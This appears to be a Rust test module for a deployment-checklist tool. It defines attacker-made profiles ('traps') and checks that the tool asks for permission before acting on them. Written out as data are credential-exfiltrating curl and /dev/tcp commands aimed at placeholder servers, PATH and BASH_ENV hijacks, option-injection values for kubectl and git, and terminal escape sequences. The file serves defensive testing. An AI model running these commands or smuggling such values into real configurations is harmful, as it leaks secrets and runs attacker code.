//! Profiles that an enemy has made: what they would run, and what they would send.

use super::scene::Scene;
use super::{Kind, Trap};

const PROFILE: &str = "environment = \"t\"\nchecklist = \"checklist.toml\"\n";

/// One probe, of a checklist of its own.
fn checklist(kind: &str, with: &str) -> String {
    format!(
        "name = \"own\"\n[[section]]\nid = \"s\"\ntitle = \"S\"\n[[section.point]]\nid = \"s.p\"\ntitle = \"P\"\n\
         why = \"W\"\nprobe = [{{ id = \"p\", title = \"p\", kind = \"{kind}\", deadline = \"2s\", with = {with} }}]\n"
    )
}

/// A probe that is a trap, named in the question.
fn probe(
    name: &'static str,
    kind: &'static str,
    with: &'static str,
    stock: &'static str,
    words: &'static str,
) -> Trap {
    let lay = move |scene: &mut Scene| {
        scene.write("checklist.toml", &checklist(kind, with));
        scene.write("profile.toml", PROFILE);
    };
    let named = vec![("check", words), ("run", words)];
    Trap { name: name.into(), kind: Kind::Profile, needs: &[], lay: Box::new(lay), stock, named }
}

/// More of a profile, beside a harmless point.
fn beside(name: &'static str, more: &'static str, stock: &'static str, words: &'static str) -> Trap {
    let lay = move |scene: &mut Scene| {
        scene.write("checklist.toml", &checklist("command", "{ argv = [\"true\"] }"));
        scene.write("profile.toml", &format!("{PROFILE}{more}"));
    };
    Trap { lay: Box::new(lay), ..probe(name, "", "", stock, words) }
}

/// What is found while the profile is read, so that every command that reads it says so.
fn found_early(trap: Trap) -> Trap {
    let words = trap.named[0].1;
    Trap { named: vec![("check", words), ("run", words), ("doctor", words)], ..trap }
}

fn needing(needs: &'static [&'static str], trap: Trap) -> Trap {
    Trap { needs, ..trap }
}

pub fn traps() -> Vec<Trap> {
    [running(), running_content(), options(), sending(), connecting(), waiting_and_showing()]
        .into_iter()
        .flatten()
        .collect()
}

/// Programs of the enemy's choice.
fn running() -> Vec<Trap> {
    vec![
        probe("a command", "command", r#"{ argv = ["touch", "@mark@"] }"#, "touch @mark@", "touch @mark@"),
        probe(
            "a program in the command's directory",
            "command",
            r#"{ argv = ["./helper"], cwd = "@evil@" }"#,
            "cd @evil@ && ./helper",
            "/evil",
        ),
        probe(
            "PATH",
            "command",
            r#"{ argv = ["env", "helper"], env = { PATH = "@evil@:/bin:/usr/bin" } }"#,
            "PATH=@evil@:/bin:/usr/bin env helper",
            "/evil:/bin:/usr/bin",
        ),
        probe(
            "a variable that names a program",
            "command",
            r#"{ argv = ["bash", "-c", "true"], env = { BASH_ENV = "@evil@/hook.sh" } }"#,
            "BASH_ENV=@evil@/hook.sh bash -c true",
            "/evil/hook.sh",
        ),
        probe(
            "a command that reads a secret",
            "http",
            r#"{ url = "http://127.0.0.1:1/", headers = { X-A = { secret = { command = ["touch", "@mark@"] } } } }"#,
            "X=$(touch @mark@)",
            "touch @mark@",
        ),
        probe(
            "via exec",
            "http",
            r#"{ url = "http://127.0.0.1:1/", via = { exec = ["@evil@/helper"] } }"#,
            "@evil@/helper curl --config - </dev/null",
            "helper curl --config -",
        ),
        probe(
            "another aws",
            "aws-secret",
            r#"{ secret_id = "s", program = ["@evil@/aws"] }"#,
            "@evil@/aws secretsmanager describe-secret --secret-id s",
            "aws secretsmanager describe-secret",
        ),
        beside(
            "a guard",
            "[[guard]]\nid = \"g\"\ntitle = \"G\"\nkind = \"command\"\nwith = { argv = [\"touch\", \"@mark@\"] }\n",
            "touch @mark@",
            "for guard g",
        ),
        beside(
            "a step of the rollback, and its dry run",
            "[[rollback]]\nid = \"b\"\ntitle = \"B\"\nwith = { argv = [\"true\"], dry_run = [\"touch\", \"@mark@\"] }\n",
            "touch @mark@",
            "touch @mark@",
        ),
    ]
}

/// Directories and files whose content runs.
fn running_content() -> Vec<Trap> {
    vec![
        probe(
            "a program named terraform",
            "iac",
            r#"{ tool = "terraform", program = "@evil@/terraform", directory = "@evil@", required = [] }"#,
            "cd @evil@ && @evil@/terraform plan",
            "terraform in",
        ),
        needing(
            &["make"],
            probe(
                "a Makefile",
                "command",
                r#"{ argv = ["make", "-s", "-C", "@evil@"] }"#,
                "make -s -C @evil@",
                "make in",
            ),
        ),
        needing(
            &["kubectl"],
            probe(
                "a kubeconfig with a plugin",
                "kubernetes",
                r#"{ context = "c", namespace = "n", kubeconfig = "@evil@/kubeconfig", deployments = ["web"] }"#,
                "timeout 9 kubectl --context=c --namespace=n --kubeconfig=@evil@/kubeconfig get deployment web",
                "kubectl in",
            ),
        ),
    ]
}

/// Names that are options.
fn options() -> Vec<Trap> {
    const DEPLOYMENT: &str = "expected the name of a deployment";
    let kubectl = |name: &'static str, with: &'static str| {
        let stock = "timeout 9 kubectl --context=c --namespace=n get deployment --kubeconfig=@evil@/kubeconfig --output=json";
        needing(&["kubectl"], found_early(probe(name, "kubernetes", with, stock, DEPLOYMENT)))
    };
    vec![
        kubectl(
            "a deployment that is an option",
            r#"{ context = "c", namespace = "n", deployments = ["--kubeconfig=@evil@/kubeconfig"] }"#,
        ),
        kubectl(
            "a rollout's deployment that is an option",
            r#"{ context = "c", namespace = "n", rollout = { deployment = "--kubeconfig=@evil@/kubeconfig" } }"#,
        ),
        kubectl(
            "a health check's deployment that is an option",
            r#"{ context = "c", namespace = "n", health = { deployment = "--kubeconfig=@evil@/kubeconfig" } }"#,
        ),
        found_early(beside(
            "a previous release that is an option",
            "previous = \"--upload-pack=@evil@/helper\"\n",
            "cd @evil@ && git init -q . && git ls-remote --upload-pack=@evil@/helper . v1",
            "expected a release tag as git allows it",
        )),
    ]
}

/// Secrets, and events, for a server of the enemy's.
fn sending() -> Vec<Trap> {
    vec![
        probe(
            "a file in a header",
            "http",
            r#"{ url = "@web@/", headers = { X-A = { secret = { file = "token" } } } }"#,
            "curl -s -H \"X-A: $(cat token)\" @web@/",
            "/token → @web@",
        ),
        probe(
            "a variable in a header",
            "http",
            r#"{ url = "@web@/", headers = { X-A = { secret = { env = "CLOUD_KEY" } } } }"#,
            "curl -s -H \"X-A: $CLOUD_KEY\" @web@/",
            "env CLOUD_KEY → @web@",
        ),
        probe(
            "a request that changes something",
            "http",
            r#"{ url = "@web@/", method = "POST" }"#,
            "curl -s -X POST @web@/",
            "Writes to:",
        ),
        probe(
            "a password for a registry",
            "registry",
            r#"{ api = { url = "@web@" }, repository = "app", username = "u", password = { file = "token" }, tag = "v1" }"#,
            "curl -s -u \"u:$(cat token)\" @web@/v2/",
            "/token → @web@ and the token server that it names",
        ),
        probe(
            "a token for Vault",
            "vault",
            r#"{ api = { url = "@web@" }, path = "p", auth = { token = { file = "token" } } }"#,
            "curl -s -H \"X-Vault-Token: $(cat token)\" @web@/v1/secret/data/p",
            "/token → @web@",
        ),
        probe(
            "an event",
            "pipeline",
            r#"{ api = { url = "@web@" }, token = { file = "token" } }"#,
            "curl -s -H \"Authorization: Bearer $(cat token)\" -d '{}' @web@/",
            "/token → @web@",
        ),
        probe(
            "a test span",
            "otlp",
            r#"{ endpoint = "@web@/v1/traces" }"#,
            "curl -s -d '{}' @web@/v1/traces",
            "@web@: a test span",
        ),
    ]
}

/// The same, over a connection that is not HTTP's.
fn connecting() -> Vec<Trap> {
    vec![
        probe(
            "a password for Redis",
            "redis",
            r#"{ url = "redis://127.0.0.1:@silent@", password = { file = "token" } }"#,
            "exec 3<>/dev/tcp/127.0.0.1/@silent@ && { printf 'AUTH '; cat token; } >&3",
            "/token → redis://127.0.0.1:@silent@ and the nodes of its cluster",
        ),
        probe(
            "a password for RabbitMQ",
            "rabbitmq",
            r#"{ url = "amqp://127.0.0.1:@silent@", username = "u", password = { env = "CLOUD_KEY" } }"#,
            "exec 3<>/dev/tcp/127.0.0.1/@silent@ && printf %s \"$CLOUD_KEY\" >&3",
            "env CLOUD_KEY → amqp://127.0.0.1:@silent@",
        ),
        probe(
            "a private key as a client's certificate",
            "http",
            r#"{ url = "https://127.0.0.1:@silent@/", tls = { certificate = "token", key = "alice" } }"#,
            "exec 3<>/dev/tcp/127.0.0.1/@silent@ && cat alice >&3",
            "/alice → https://127.0.0.1:@silent@",
        ),
    ]
}

/// What would wait for ever, and what would write on the terminal.
fn waiting_and_showing() -> Vec<Trap> {
    vec![
        probe(
            "a FIFO as a secret",
            "http",
            r#"{ url = "@web@/", headers = { X-A = { secret = { file = "@evil@/fifo" } } } }"#,
            "timeout 1 cat @evil@/fifo",
            "fifo → @web@",
        ),
        probe(
            "escapes in a command",
            "command",
            r#"{ argv = ["printf", "\u001b[2J\u202egood", "touch", "@mark@"] }"#,
            "printf '\\033[2J'",
            r"printf '\u{1b}[2J\u{202e}good' touch",
        ),
        probe(
            "escapes in a variable's name",
            "command",
            r#"{ argv = ["true"], env = { "A\u001b[1A\u001b[2K" = "b" } }"#,
            "printf 'A\\033[1A\\033[2K'",
            r"A\u{1b}[1A\u{1b}[2K",
        ),
    ]
}

/// Everything that reads a profile, asked for permission and not given it.
pub fn walk(scene: &mut Scene) -> Result<(), String> {
    const RELEASE: [&str; 4] = ["--release", "v2", "--previous", "v1"];
    let no = [("y to allow:", "n\r"), ("Release to promote:", "\r")];
    scene.run(&["check", "profile.toml"])?;
    scene.run(&[&["check", "profile.toml"], &RELEASE[..]].concat())?;
    scene.run(&["check", "profile.toml", "--format", "json", "--no-effects"])?;
    scene.run(&["doctor", "profile.toml"])?;
    for more in scene.some(&[&["--format", "json"][..], &["--trust-digest"]]) {
        scene.run(&[&["doctor", "profile.toml"], *more].concat())?;
    }
    for more in scene.some(&[&[][..], &["--format", "json"]]) {
        scene.run(&[&["points", "profile.toml"], *more].concat())?;
    }
    scene.open_run(&[], &no)?;
    scene.open_run(&RELEASE, &no)
}
